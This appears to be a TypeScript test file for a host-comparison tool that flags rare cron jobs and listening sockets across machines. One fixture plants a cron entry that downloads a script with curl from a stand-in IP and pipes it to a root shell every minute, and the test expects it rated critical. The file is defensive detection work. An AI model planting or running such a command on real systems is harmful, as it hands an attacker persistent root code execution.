import { describe, expect, it } from 'vitest';
import { MemoryTree, type MemoryFile } from '../../../../tests/support/memory-tree.ts';
import { LiveHost } from '../proc/live-host.ts';
import { RecordedProc, type ProcAnswer } from '../proc/recorded-proc.ts';
import { Stack } from './stack.ts';

const accounts = { '/etc/passwd': 'root:x:0:0::/root:/bin/bash\n' };
const backup = { ...accounts, '/etc/cron.d/backup': '0 3 * * * root /usr/local/bin/backup\n' };
const planted = { ...backup, '/etc/cron.d/update': '* * * * * root curl -s http://203.0.113.9/a | sh\n' };

function stackOf(hosts: Readonly<Record<string, Readonly<Record<string, MemoryFile>>>>): Stack {
  const stack = new Stack();
  for (const [name, files] of Object.entries(hosts)) stack.add({ name, tree: new MemoryTree(files) });
  return stack;
}

describe('Stack', () => {
  it('shows what few hosts have, the rarest first, of these the worst', () => {
    const stack = stackOf({ a: backup, b: backup, c: planted, d: accounts });
    const cron = (atMost: number) =>
      stack
        .rows(atMost)
        .filter(({ kind }) => kind === 'cron')
        .map(({ what, hosts }) => [what, hosts.join(' ')]);
    expect(cron(1)).toEqual([['/etc/cron.d/update', 'c']]);
    expect(cron(3)).toEqual([
      ['/etc/cron.d/update', 'c'],
      ['/etc/cron.d/backup', 'a b c'],
    ]);
    expect(stack.rows(1)[0]).toMatchObject({
      severity: 'critical',
      detail: expect.stringContaining('curl -s') as string,
    });
  });

  it('takes the same place with other content for another item, and two bundles of a host for one', () => {
    const other = { ...accounts, '/etc/cron.d/backup': '0 3 * * * root /tmp/backup\n' };
    const stack = stackOf({ a: backup, b: other });
    stack.add({ name: 'a', tree: new MemoryTree(backup) });
    expect(stack.hosts).toEqual(['a', 'b']);
    const jobs = stack.rows(1).filter(({ kind }) => kind === 'cron');
    expect(jobs.map(({ hosts, detail }) => [hosts, detail.includes('/tmp/')])).toEqual([
      [['b'], true],
      [['a'], false],
    ]);
  });

  it('knows what listens', () => {
    const tcp = 'header\n 0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 4711 1 0\n';
    const answers: ProcAnswer[] = [
      { path: '.', names: ['7'] },
      { path: '7/stat', bytes: Buffer.from(`7 (app) S 1 7 7 0 -1 0 ${'0 '.repeat(40)}`).toString('base64') },
      { path: '7/exe', link: '/opt/app' },
      { path: '7/fd', names: ['3'] },
      { path: '7/fd/3', link: 'socket:[4711]' },
      { path: '7/net', exists: true },
      { path: '7/net/tcp', bytes: Buffer.from(tcp).toString('base64') },
    ];
    const stack = new Stack();
    stack.add({ name: 'a', tree: new MemoryTree(accounts), live: new LiveHost(new RecordedProc(answers)) });
    expect(stack.rows(1).filter(({ kind }) => kind === 'listening')).toMatchObject([
      { what: 'tcp 8080 /opt/app', detail: '0.0.0.0', hosts: ['a'] },
    ]);
  });
});
